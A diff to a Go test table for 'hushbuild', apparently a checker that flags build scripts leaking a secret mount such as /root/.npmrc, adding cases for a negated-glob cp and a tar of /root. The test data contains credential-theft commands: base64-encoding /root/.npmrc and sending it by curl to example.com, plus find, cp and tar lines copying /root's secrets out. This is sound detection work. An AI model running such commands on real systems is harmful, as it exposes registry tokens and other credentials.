@@ -35,6 +35,8 @@ func TestOpaqueWrites(t *testing.T) {
 		{name: "nested shell unreadable", script: `sh -c 'echo "$TOKEN" > /x; if'`, want: "runs a script that hushbuild cannot parse"},
 		{name: "base64 capture written", script: `T=$(base64 /root/.npmrc); echo "$T" > /app/t`, want: "into the variable T, and a command writes it into a file"},
 		{name: "base64 capture used", script: `T=$(base64 /root/.npmrc); curl -H "X: $T" https://example.com`},
+		{name: "negated class matching the mount", script: `cp -r /root/.[!.]* /srv/`, want: "cp copies the secret mounted at /root/.npmrc, which /root/.[!.]* matches"},
+		{name: "tar --directory of the parent", script: `tar --directory=/root -czf /srv/x.tgz .`, want: "tar copies /root, which holds a secret mount"},
 		// find and ls hand the files of the mount's directory to a copy.
 		{name: "find -exec cp over the parent", script: `find /root -type f -exec cp {} /srv/ \;`, want: "find -exec cp copies the files that /root holds"},
 		{name: "find -exec cat into a file", script: `find /root -name '.*rc' -exec cat {} + > /srv/all`, want: "find -exec cat copies the files that /root holds"},
